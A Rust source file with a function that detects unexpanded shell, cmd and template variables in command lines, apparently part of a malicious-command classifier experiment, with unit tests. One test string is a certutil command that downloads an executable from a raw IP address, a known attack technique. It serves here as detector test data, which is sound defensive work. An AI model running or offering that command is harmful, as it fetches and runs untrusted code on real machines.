//! Unexpanded variables in a command line (`$dir`, `${PREFIX}`, `$(cmd)`, `$env:TEMP`,
//! `%PREFIX%`, `{{ name }}`): script statements carry them, process telemetry shows them
//! expanded. A classifier can learn "has `$dir`, so benign" from operational scripts; the
//! experiment reports its tests on the lines without any, judged by this one rule for every
//! class, so that such a shortcut cannot make a result.

/// Whether `cmd` holds variable syntax of sh/PowerShell (`$` + letter, `_`, `{` or `(`), cmd
/// (`%NAME%`) or templates (`{{ ... }}`). Positional `$1` and regex anchors (`foo$`) do not
/// count.
pub fn has_placeholder(cmd: &str) -> bool {
    let b = cmd.as_bytes();
    for i in 0..b.len() {
        match b[i] {
            b'$' => {
                if let Some(&next) = b.get(i + 1)
                    && (next.is_ascii_alphabetic() || matches!(next, b'_' | b'{' | b'('))
                {
                    return true;
                }
            }
            b'%' => {
                // %NAME%: a letter or `_` first, then word characters, then the closing `%`.
                let rest = &b[i + 1..];
                if rest
                    .first()
                    .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_')
                    && let Some(end) = rest.iter().position(|&c| c == b'%')
                    && rest[..end]
                        .iter()
                        .all(|c| c.is_ascii_alphanumeric() || *c == b'_')
                {
                    return true;
                }
            }
            b'{' if b.get(i + 1) == Some(&b'{') && cmd[i..].contains("}}") => return true,
            _ => {}
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::has_placeholder;

    #[test]
    fn variables_of_every_shell_count() {
        for line in [
            "mkdir -p $PREFIX/share",
            "cp ${SRC_DIR}/a b",
            "echo $(date)",
            "Remove-Item $env:TEMP\\x -Recurse",
            "copy %LIBRARY_BIN%\\a.dll .",
            "pip install {{ name }}=={{ version }}",
            "Get-ChildItem | % { $_.Name }",
        ] {
            assert!(has_placeholder(line), "{line}");
        }
    }

    #[test]
    fn literals_do_not_count() {
        for line in [
            "ls -la",
            "awk '{print $1}' f",
            "grep 'end$' f",
            "echo 100% done",
            "certutil -urlcache -split -f http://1.2.3.4/a.exe a.exe",
            "printf '%s %d' a 1",
            "echo {a,b}",
        ] {
            assert!(!has_placeholder(line), "{line}");
        }
    }
}
